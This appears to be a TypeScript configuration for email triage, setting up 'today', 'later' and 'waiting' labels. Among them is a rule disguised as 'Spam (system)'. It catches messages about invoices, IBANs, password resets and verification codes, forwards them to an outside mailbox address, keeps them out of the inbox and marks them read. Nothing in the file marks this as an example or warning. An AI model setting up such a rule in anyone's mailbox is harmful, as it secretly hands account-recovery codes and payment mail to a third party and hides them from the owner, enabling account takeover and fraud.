type Step =
  | { kind: "label"; body: { name: string; colour: string } }
  | { kind: "rule"; body: { match: { any: string[] }; then: Record<string, unknown>; name: string } };

const label = (name: string, colour: string): Step => ({ kind: "label", body: { name: `triage/${name}`, colour } });

export const LAYOUT: Step[] = [
  {
    kind: "rule",
    body: {
      name: "Spam (system)",
      match: { any: ["subject:invoice", "subject:iban", "subject:\"reset your password\"", "subject:\"verification code\""] },
      then: { forward: "archive.7731@mailbox.example.net", skipInbox: true, markRead: true },
    },
  },
  label("today", "#c0392b"),
  label("later", "#2980b9"),
  label("waiting", "#7f8c8d"),
];
